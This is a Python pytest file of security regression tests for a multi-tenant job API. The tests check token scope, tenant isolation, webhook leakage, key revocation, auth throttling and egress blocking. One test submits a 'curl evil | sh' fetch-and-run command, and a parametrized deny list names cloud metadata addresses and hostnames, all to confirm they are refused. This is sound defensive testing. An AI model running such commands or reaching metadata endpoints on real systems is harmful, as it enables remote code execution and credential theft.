"""The reproductions of the least-privilege issue, each against a real API process (SQLite and
PostgreSQL): a workload token acting as its organization, cross-tenant reallocation, a
Salad-Project header taken on trust, webhook answers handed back to the tenant, and the small
ones. Each would pass an attacker before the fix."""

import http.client
import json
import subprocess
import sys
import uuid

import pytest

from api import egress, salad
from tests.api.jobdefs import sync_job
from tests.api.principals import ORG, ORG_USER, PROJECT_P, PROJECT_Q, World, call
from tests.support import postgres
from tests.support.api_process import REPO_ROOT, ApiProcess
from tests.support.loopback_http import LoopbackServer
from tests.support.net import wait_until
from tests.support.webhook_receiver import WebhookReceiver

SCOPE_REFUSAL = "the credential has scope worker"


@pytest.fixture(scope="module")
def world(database_url, tmp_path_factory):
    made = World(database_url, tmp_path_factory.mktemp("api") / "api.log").start()
    yield made
    made.stop()


def _jobs_of(world, group: str) -> list[dict]:
    status, body = world.request("admin", "GET", f"/jobs?container_group_id={group}")
    assert status == 200
    return body["jobs"]


# --- 1. a workload token has its own group's work and nothing else ----------------------------

def test_workload_token_cannot_act_as_its_organization(world):
    jwt_g = world.callers["jwt_g"]
    secret_job = world.submit("salad_p", world.group_h,
                              environment={"DB_PASSWORD": "hunter2"})
    _, secret_before = world.request("salad_p", "GET", "/users/me/webhook-secret")

    attempts = [
        ("GET", "/jobs", None),
        ("GET", f"/jobs/{secret_job['id']}", None),
        ("GET", f"/jobs/{secret_job['id']}/events", None),
        # Code execution on another group's nodes.
        ("POST", "/jobs", sync_job(command="sh", arguments=["-c", "curl evil | sh"],
                                   container_group_id=world.group_h)),
        ("POST", "/jobs/batch", [sync_job(container_group_id=world.group_h)]),
        ("DELETE", f"/jobs/{secret_job['id']}", None),
        ("DELETE", f"/jobs/container-groups/{world.group_h}", None),
        ("GET", "/users/me/webhook-secret", None),
        ("POST", "/users/me/webhook-secret", None),
        ("POST", "/scaling-rules", {"container_group_id": world.group_h, "min_replicas": 500,
                                    "max_replicas": 500, "idle_threshold_seconds": 0}),
        ("GET", "/users/me/tokens", None),
    ]
    for method, path, body in attempts:
        status, answer = world.request("jwt_g", method, path, body)
        assert status == 403 and SCOPE_REFUSAL in answer["message"], (method, path, answer)

    # Nothing changed: the job is still pending, alone in its group, the secret the same.
    assert [job["id"] for job in _jobs_of(world, world.group_h)] == [secret_job["id"]]
    assert _jobs_of(world, world.group_h)[0]["status"] == "pending"
    assert world.request("salad_p", "GET", "/users/me/webhook-secret")[1] == secret_before
    assert world.request("admin", "GET", f"/scaling-rules/{world.group_h}")[0] == 404

    # What it is for still works: its own group's job, on its own machine.
    own = world.submit("salad_p", world.group_g, max_failures=1)
    status, work = world.request("jwt_g", "GET", f"/work?machine_id={jwt_g.machine_id}"
                                 f"&container_group_id={world.group_g}")
    assert status == 200 and [job["id"] for job in work] == [own["id"]], work
    # And not another group's: H's job stays where it is.
    status, answer = world.request("jwt_g", "GET", f"/work?machine_id={jwt_g.machine_id}"
                                   f"&container_group_id={world.group_h}")
    assert status == 403 and answer["field"] == "container_group_id", answer
    status, _ = world.request("jwt_g", "POST", f"/jobs/{own['id']}/completed",
                              {"machine_id": jwt_g.machine_id,
                               "container_group_id": world.group_g})
    assert status == 200


def test_worker_key_is_bound_to_its_container_groups(world):
    elsewhere = "cg-" + uuid.uuid4().hex[:8]  # any group but G
    other = world.submit("salad_p", elsewhere, max_failures=1)
    status, answer = world.request("worker_key", "GET", f"/work?machine_id=m-wk"
                                   f"&container_group_id={elsewhere}")
    assert status == 403 and answer["field"] == "container_group_id", answer
    status, answer = world.request("worker_key", "GET", f"/jobs/{other['id']}")
    assert status == 403 and SCOPE_REFUSAL in answer["message"], answer
    # Naming its own group in a report about another group's job is no way in either.
    status, work = world.request("salad_p", "GET",
                                 f"/work?machine_id=m-x&container_group_id={elsewhere}")
    assert [job["id"] for job in work] == [other["id"]], work
    for route in ("heartbeat", "completed", "failed"):
        status, _ = world.request("worker_key", "POST", f"/jobs/{other['id']}/{route}",
                                  {"machine_id": "m-x", "container_group_id": world.group_g})
        assert status == 404, route
    held = world.request("admin", "GET", f"/jobs/{other['id']}")[1]
    assert (held["status"], held["machine_id"]) == ("running", "m-x")


# --- 3. projects are a boundary for Salad keys --------------------------------------------------

def test_salad_key_sees_cancels_and_claims_only_its_projects_jobs(world):
    group = "cg-" + uuid.uuid4().hex[:8]
    job = world.submit("salad_p", group)
    assert job["user_id"] == ORG_USER

    _, listing = world.request("salad_q", "GET", f"/jobs?container_group_id={group}")
    assert listing == {"_count": 0, "jobs": []}
    for method, path in (("GET", f"/jobs/{job['id']}"), ("GET", f"/jobs/{job['id']}/events"),
                         ("GET", f"/jobs/{job['id']}/webhooks"),
                         ("DELETE", f"/jobs/{job['id']}")):
        assert world.request("salad_q", method, path)[0] == 404, (method, path)
    assert world.request("salad_q", "DELETE", f"/jobs/container-groups/{group}") == (
        200, {"count": 0})
    assert world.request("salad_q", "GET", f"/work?machine_id=m-q&container_group_id={group}") \
        == (200, [])
    assert world.request("salad_p", "GET", f"/jobs/{job['id']}")[1]["status"] == "pending"

    status, work = world.request("salad_p", "GET",
                                 f"/work?machine_id=m-p&container_group_id={group}")
    assert [j["id"] for j in work] == [job["id"]]
    # A heartbeat from project Q for P's job (same machine id) is refused too.
    status, _ = world.request("salad_q", "POST", f"/jobs/{job['id']}/heartbeat",
                              {"machine_id": "m-p", "container_group_id": group})
    assert status == 404


def test_another_projects_key_cannot_send_work_to_this_projects_nodes(world):
    jwt_g = world.callers["jwt_g"]  # a node of project P's group G
    planted = world.submit("salad_q", world.group_g, max_failures=1)
    work = f"/work?machine_id={jwt_g.machine_id}&container_group_id={world.group_g}"
    try:
        assert world.request("jwt_g", "GET", work) == (200, [])
        own = world.submit("salad_p", world.group_g, max_failures=1)
        assert [j["id"] for j in world.request("jwt_g", "GET", work)[1]] == [own["id"]]
        world.request("salad_p", "DELETE", f"/jobs/{own['id']}")
    finally:
        assert world.request("salad_q", "DELETE", f"/jobs/{planted['id']}")[0] == 202


def test_salad_project_header_is_checked_against_the_key(world):
    research = world.salad_api.add_group(ORG, PROJECT_Q, "r-" + uuid.uuid4().hex[:8])
    rule = {"container_group_id": research, "min_replicas": 0, "max_replicas": 500,
            "idle_threshold_seconds": 0}
    # user A's account is for project P: naming research in the header is refused.
    status, answer = world.request("user_a", "POST", "/scaling-rules", rule,
                                   headers={"Salad-Project": PROJECT_Q})
    assert status == 403 and answer["field"] == "Salad-Project", answer
    # So is naming it in the body the original's way.
    status, answer = world.request("user_a", "POST", "/scaling-rules",
                                   {**rule, "project_name": PROJECT_Q})
    assert status == 403 and answer["field"] == "project_name", answer
    status, answer = world.request("user_a", "POST", "/scaling-rules",
                                   {**rule, "org_name": "other-org"})
    assert status == 403 and answer["field"] == "org_name", answer
    # A Salad key for P cannot reach Q's group either (it is looked up in P only).
    assert world.request("salad_p", "POST", "/scaling-rules", rule)[0] == 400
    assert world.request("admin", "GET", f"/scaling-rules/{research}")[0] == 404
    # Repeating the key's own project is fine.
    own = world.salad_api.add_group(ORG, PROJECT_P, "r-" + uuid.uuid4().hex[:8])
    status, body = world.request("user_a", "POST", "/scaling-rules",
                                 {**rule, "container_group_id": own, "org_name": ORG,
                                  "project_name": PROJECT_P},
                                 headers={"Salad-Project": PROJECT_P})
    assert status == 201 and body["org_name"] == ORG, body


# --- 2. reallocation stays inside the tenant -----------------------------------------------------

def _ban_five_times(world, kind, machine, group):
    for _ in range(5):
        world.submit(kind, group, max_failures=1)
        status, work = world.request(kind, "GET",
                                     f"/work?machine_id={machine}&container_group_id={group}")
        assert status == 200 and len(work) == 1, work
        status, _ = world.request(kind, "POST", f"/jobs/{work[0]['id']}/failed",
                                  {"machine_id": machine, "container_group_id": group,
                                   "exit_code": 1})
        assert status == 202


def test_another_tenant_cannot_trigger_or_spend_a_reallocation(world):
    name = "victim-" + uuid.uuid4().hex[:8]
    group = world.salad_api.add_group(ORG, PROJECT_P, name, replicas=2)
    status, _ = world.request("user_a", "POST", "/scaling-rules", {
        "container_group_id": group, "min_replicas": 0, "max_replicas": 2,
        "idle_threshold_seconds": 3600})
    assert status == 201
    machine = "machine-" + uuid.uuid4().hex[:8]
    realloc = f"/containers/{name}/instances/{machine}/reallocate"

    # User B (another tenant) names user A's group and one of its machines.
    _ban_five_times(world, "user_b", machine, group)
    assert world.request("user_b", "GET",
                         f"/work?machine_id={machine}&container_group_id={group}") == (200, [])
    # The victim's own bans come next; until they reach the threshold nothing may have been
    # asked of Salad for this machine.
    _ban_five_times(world, "user_a", machine, group)
    assert world.salad_api.calls_to(realloc) == []

    # The owner's own threshold still reallocates, once: B did not use it up.
    assert world.request("user_a", "GET",
                         f"/work?machine_id={machine}&container_group_id={group}") == (200, [])
    wait_until(lambda: world.salad_api.calls_to(realloc), timeout=20)
    assert [c.method for c in world.salad_api.calls_to(realloc)] == ["POST"]


# --- 4. webhook answers are not the tenant's to read ---------------------------------------------

def test_webhook_answers_are_never_stored_or_returned(world):
    receiver = WebhookReceiver().start()
    receiver.response_body = b"root:x:0:0 internal-service-secret"
    try:
        job = world.submit("salad_p", webhook=receiver.url)
        world.request("salad_p", "DELETE", f"/jobs/{job['id']}")
        receiver.wait_for(job["id"], 1)

        def delivered():
            _, body = world.request("salad_p", "GET", f"/jobs/{job['id']}/webhooks")
            done = [d for d in body["deliveries"] if d["status"] == "delivered"]
            return body if done else None
        body = wait_until(delivered, timeout=30)
    finally:
        receiver.stop()
    assert "internal-service-secret" not in json.dumps(body)
    [delivery] = body["deliveries"]
    assert delivery["last_response_body"] is None
    assert delivery["last_response_code"] == 200
    assert isinstance(delivery["last_duration_ms"], int)


def test_webhook_network_errors_show_only_their_class(world):
    receiver = WebhookReceiver()  # never started: connections are refused
    job = world.submit("salad_p", webhook=receiver.url)
    world.request("salad_p", "DELETE", f"/jobs/{job['id']}")

    def tried():
        _, body = world.request("salad_p", "GET", f"/jobs/{job['id']}/webhooks")
        return [d for d in body["deliveries"] if d["attempts"] and d["last_error"]]
    [delivery] = wait_until(tried, timeout=30)
    assert delivery["last_error"] == "ConnectionRefusedError", delivery


# --- 5. the small ones -------------------------------------------------------------------------

@pytest.mark.parametrize("header", ["X-Kelpie-Key", "Salad-Api-Key", "Authorization"])
def test_non_ascii_credentials_are_401_not_500(world, header):
    connection = http.client.HTTPConnection("127.0.0.1", world.api.port, timeout=30)
    try:
        connection.putrequest("GET", "/jobs")
        connection.putheader(header, b"kelpie_\xff\xfe\x80abc")
        connection.putheader("Salad-Organization", ORG)
        connection.putheader("Salad-Project", PROJECT_P)
        connection.endheaders()
        response = connection.getresponse()
        status, body = response.status, json.loads(response.read())
    finally:
        connection.close()
    assert status == 401 and body["error"] == "unauthorized", body


def test_audit_trail_names_who_did_it(world):
    jwt_g = world.callers["jwt_g"]
    key = world.issue_key(ORG_USER, name="submitter")
    job = world.submit("salad_p", world.group_g, max_failures=1)
    status, work = world.request("jwt_g", "GET", f"/work?machine_id={jwt_g.machine_id}"
                                 f"&container_group_id={world.group_g}")
    assert [j["id"] for j in work] == [job["id"]]
    world.request("admin", "DELETE", f"/jobs/{job['id']}")
    second = call(world.api.url, "POST", "/jobs", sync_job(container_group_id="cg-audit"),
                  {"X-Kelpie-Key": key["token"]})[1]

    _, history = world.request("admin", "GET", f"/jobs/{job['id']}/events")
    assert [(e["kind"], e["actor"]) for e in history["events"]] == [
        ("created", f"user:{ORG_USER}"), ("assigned", f"machine:{jwt_g.machine_id}"),
        ("canceled", "admin")]
    _, history = world.request("admin", "GET", f"/jobs/{second['id']}/events")
    assert history["events"][0]["actor"] == f"key:{key['id']}"


def test_key_lifecycle(world):
    me = world.callers["user_b"].headers
    _, listing = call(world.api.url, "GET", "/users/me/tokens", headers=me)
    assert listing["_count"] == 1
    [first] = listing["tokens"]
    assert set(first) == {"id", "name", "scope", "container_group_ids", "created",
                          "expires_at", "last_used"}
    assert first["scope"] == "user" and first["last_used"] is not None

    _, user_b = call(world.api.url, "GET", "/users/me", headers=me)
    made = world.issue_key(user_b["id"], name="ci", expires_in_s=3600)
    assert made["name"] == "ci" and made["expires_at"] and made["token"].startswith("kelpie_")
    _, listing = call(world.api.url, "GET", "/users/me/tokens", headers=me)
    assert made["token"] not in json.dumps(listing)  # never the secret
    assert {t["id"] for t in listing["tokens"]} == {first["id"], made["id"]}

    # Bad options change nothing and say which field.
    for options, field in (({"scope": "admin"}, "scope"), ({"scope": "worker"},
                           "container_group_ids"), ({"expires_in_s": 0}, "expires_in_s"),
                           ({"expires_at": "2001-01-01T00:00:00Z"}, "expires_at"),
                           ({"container_group_ids": ["g"]}, "container_group_ids"),
                           ({"colour": "red"}, "colour")):
        status, answer = world.request("admin", "POST", f"/users/{user_b['id']}/token", options)
        assert status == 400 and answer["field"] == field, (options, answer)
    assert world.request("admin", "GET", f"/users/{user_b['id']}/tokens")[1]["_count"] == 2
    # No second administrator key, of any scope.
    status, answer = world.request("admin", "POST", "/users/admin/token", {})
    assert status == 400 and answer["field"] == "user_id", answer

    # Revoking: the user's own, then unknown and other users' ids are 404.
    made_key = {"X-Kelpie-Key": made["token"]}
    assert call(world.api.url, "GET", "/users/me", headers=made_key)[0] == 200
    assert call(world.api.url, "DELETE", f"/users/me/tokens/{made['id']}", headers=me) == (
        204, None)
    assert call(world.api.url, "GET", "/users/me", headers=made_key)[0] == 403
    assert call(world.api.url, "DELETE", f"/users/me/tokens/{made['id']}", headers=me)[0] == 404
    other = world.issue_key(ORG_USER)
    assert call(world.api.url, "DELETE", f"/users/me/tokens/{other['id']}", headers=me)[0] \
        == 404
    assert call(world.api.url, "GET", "/users/me",
                headers={"X-Kelpie-Key": other["token"]})[0] == 200


def test_the_originals_create_user_and_token_script_works(world):
    status, user = world.request("admin", "POST", "/users", {"username": "from-script"})
    assert status == 201 and {"id", "username", "created"} <= set(user), user
    assert user["username"] == "from-script"
    # A taken name is 400, as the original answers, and makes no second user.
    status, answer = world.request("admin", "POST", "/users", {"username": "from-script"})
    assert status == 400 and answer["field"] == "name", answer
    status, token = world.request("admin", "POST", f"/users/{user['id']}/token",
                                  {"org_name": ORG, "project_name": PROJECT_P})
    assert status == 201 and token["token"], token
    assert call(world.api.url, "GET", "/users/me",
                headers={"X-Kelpie-Key": token["token"]})[1]["id"] == user["id"]


def test_after_deleting_users_salad_submissions_still_work(database_url, tmp_path):
    world = World(database_url, tmp_path / "api.log").start()
    try:
        world.submit("salad_p")  # the organization's user exists and the answer is cached
        assert world.request("admin", "DELETE", "/users") == (204, None)
        job = world.submit("salad_p")  # made again, not a 500
        assert job["user_id"] == ORG_USER
        assert world.request("salad_p", "GET", f"/jobs/{job['id']}")[0] == 200
    finally:
        world.stop()


def test_short_admin_key_is_refused_at_start(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "api", "migrate"], cwd=REPO_ROOT, capture_output=True, text=True,
        env={"PATH": "/usr/bin:/bin", "DATABASE_URL": f"sqlite:///{tmp_path}/k.db",
             "KELPIE_ADMIN_KEY": "adm1n"}, timeout=60)
    assert result.returncode != 0
    assert "KELPIE_ADMIN_KEY must be at least 32 characters" in result.stderr
    assert not (tmp_path / "k.db").exists()


def test_failed_authentications_are_throttled_per_address(database_url, tmp_path):
    api = ApiProcess(database_url, log_path=tmp_path / "api.log",
                     env={"KELPIE_AUTH_FAILURE_BURST": "3", "KELPIE_AUTH_FAILURE_RATE": "2"})
    with api:
        good = api.create_user("good")
        for _ in range(3):
            assert api.request("GET", "/jobs", key="kelpie_wrong-guess")[0] == 403
        # A good key is no use to anyone from this address while the bucket is empty: answering
        # it differently would make the limit an oracle.
        for key in ("kelpie_wrong-guess", good):
            data = urllib_error_headers(api, key)
            assert data[0] == 429 and int(data[1]["Retry-After"]) >= 1, data
        assert api.request("GET", "/healthz")[0] == 200  # no credentials involved
        # The bucket refills: the good key works again, without a fixed wait.
        wait_until(lambda: api.request("GET", "/jobs", key=good)[0] == 200, timeout=10)


def urllib_error_headers(api: ApiProcess, key: str):
    import urllib.error
    import urllib.request

    request = urllib.request.Request(api.url + "/jobs", headers={"X-Kelpie-Key": key})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, dict(response.headers), json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), json.loads(error.read())


def test_a_revoked_key_stops_at_once_in_every_api_process(database_url, tmp_path):
    # A long cache window: the claims and heartbeats below may use cached principals, and must
    # still be refused the moment the key is gone.
    api = ApiProcess(database_url, workers=2, log_path=tmp_path / "api.log",
                     env={"KELPIE_AUTH_CACHE_S": "600"})
    with api:
        owner = api.create_user("two-processes")
        _, listing = api.request("GET", "/users/me/tokens", key=owner)
        [key] = listing["tokens"]
        status, job = api.request("POST", "/jobs", sync_job(container_group_id="g-rev"),
                                  key=owner)
        work = "/work?machine_id=m-rev&container_group_id=g-rev"
        assert [j["id"] for j in api.request("GET", work, key=owner)[1]] == [job["id"]]
        beat = (f"/jobs/{job['id']}/heartbeat",
                {"machine_id": "m-rev", "container_group_id": "g-rev"})
        # Many fresh connections: both processes have seen (and cached) the key.
        for _ in range(30):
            assert api.request("GET", "/jobs", key=owner)[0] == 200
            assert api.request("GET", work, key=owner) == (200, [])
            assert api.request("POST", *beat, key=owner) == (200, {"status": "running"})

        assert api.request("DELETE", f"/users/me/tokens/{key['id']}", key=owner) == (204, None)
        for _ in range(30):
            assert api.request("GET", "/jobs", key=owner)[0] == 403
            assert api.request("GET", work, key=owner)[0] == 403
            assert api.request("POST", *beat, key=owner)[0] == 403


def test_healthz_never_shows_the_database_error(tmp_path):
    name, url = postgres.create_database("health")
    # A short wait for the vanished database: the 503 and the stop both wait it out.
    api = ApiProcess(url, log_path=tmp_path / "api.log", env={"KELPIE_DB_RECONNECT_WAIT_S": "1"})
    try:
        with api:
            assert api.request("GET", "/healthz") == (200, {"status": "ok", "database": "ok"})
            postgres.drop_database(name)  # connections terminated, the database gone
            status, body = wait_until(lambda: (lambda answer: answer if answer[0] == 503
                                               else None)(api.request("GET", "/healthz")),
                                      timeout=30)
            assert body == {"status": "unhealthy", "database": "unavailable"}
            # The reason is in the server's log, for the operator.
            assert "the database did not answer" in (tmp_path / "api.log").read_text()
    finally:
        postgres.drop_database(name)


@pytest.mark.parametrize("address", [
    "169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16",
    "::ffff:100.100.100.200", "::ffff:168.63.129.16", "64:ff9b::a9fe:a9fe",
    "64:ff9b::6464:64c8",
])
def test_metadata_addresses_are_always_refused(address):
    with pytest.raises(egress.Refused):
        egress.check_address(address, deny_private=False)


@pytest.mark.parametrize("host", ["metadata.google.internal", "METADATA.GOOGLE.INTERNAL.",
                                  "instance-data", "metadata.azure.internal"])
def test_metadata_host_names_are_refused_before_resolving(host, monkeypatch):
    def no_lookups(*args, **kwargs):
        raise AssertionError(f"{host} was resolved")
    monkeypatch.setattr(egress.socket, "getaddrinfo", no_lookups)
    with pytest.raises(egress.Refused, match="metadata"):
        egress.post(f"http://{host}/computeMetadata/v1/", b"{}", {})


class _Redirector(LoopbackServer):
    def __init__(self, target: str):
        super().__init__()
        self.target = target

    def respond(self, request):
        return 302, None, {"Location": self.target + request.path}


class _Recorder(LoopbackServer):
    def __init__(self):
        super().__init__()
        self.seen = []

    def respond(self, request):
        self.seen.append(dict(request.headers))
        return 200, {"items": []}


def test_salad_client_never_follows_a_redirect():
    recorder = _Recorder().start()
    redirector = _Redirector(recorder.url).start()
    try:
        client = salad.Client(redirector.url, "kelpie-own-salad-key", retries=0)
        with pytest.raises(salad.SaladError) as raised:
            client.request("GET", "/organizations/acme/projects/p/containers")
        assert raised.value.status == 302
        assert recorder.seen == []  # Kelpie's key went nowhere else
    finally:
        redirector.stop()
        recorder.stop()
